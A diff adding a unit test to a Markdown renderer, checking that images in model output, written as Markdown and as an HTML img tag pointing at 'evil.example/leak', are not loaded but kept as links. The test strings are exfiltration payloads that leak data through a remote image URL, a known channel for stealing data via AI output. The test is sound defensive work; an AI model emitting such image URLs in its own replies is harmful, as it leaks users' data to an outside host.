@@ -41,6 +41,12 @@ describe("renderMarkdown", () => {
     expect(root.querySelector("b")).toBeNull();
   });
 
+  it("never loads a remote image from model output, but keeps it as a link", () => {
+    const root = dom(renderMarkdown("![secret](https://evil.example/leak?q=abc)\n\n<img src=https://evil.example/x>"));
+    expect(root.querySelector("img")).toBeNull();
+    expect(root.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/leak?q=abc");
+  });
+
   it("opens links in a new tab without an opener", () => {
     const link = dom(renderMarkdown("[docs](https://example.com)")).querySelector("a");
     expect(link?.getAttribute("target")).toBe("_blank");
